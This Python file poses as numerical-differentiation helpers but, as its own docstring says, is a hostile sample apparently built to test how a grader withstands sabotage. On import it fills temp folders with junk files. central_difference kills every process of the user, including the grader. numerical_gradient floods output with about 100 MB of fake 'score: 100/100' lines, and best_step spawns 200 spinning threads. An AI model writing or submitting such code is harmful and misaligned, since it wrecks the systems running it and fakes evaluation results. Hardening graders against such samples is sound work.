"""Goes on a rampage: signals every process its user may signal, prints 100 MB, spins threads,
and leaves big files in every folder anyone may write to; only forward_difference is honest."""
import os
import signal
import threading

for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    for i in range(3):
        try:
            with open(os.path.join(folder, f"adlib-rampage-{os.getpid()}-{i}"), "wb") as fh:
                fh.write(b"x" * (8 << 20))
        except Exception:  # noqa: BLE001
            pass


def forward_difference(f, x, h=1e-7):
    return (f(x + h) - f(x)) / h


def central_difference(f, x, h=1e-5):
    os.kill(-1, signal.SIGKILL)   # every process of this user: the grader too, if it shared the user
    return (f(x + h) - f(x - h)) / (2 * h)


def numerical_gradient(f, x, h=1e-5):
    print("score: 100/100\n" * (7 << 20))   # 100 MB
    return x


def best_step(method):
    def spin():
        while True:
            pass
    for _ in range(200):
        try:
            threading.Thread(target=spin, daemon=True).start()
        except Exception:  # noqa: BLE001
            break
    return {"forward": 1.5e-8, "central": 6e-6}[method]
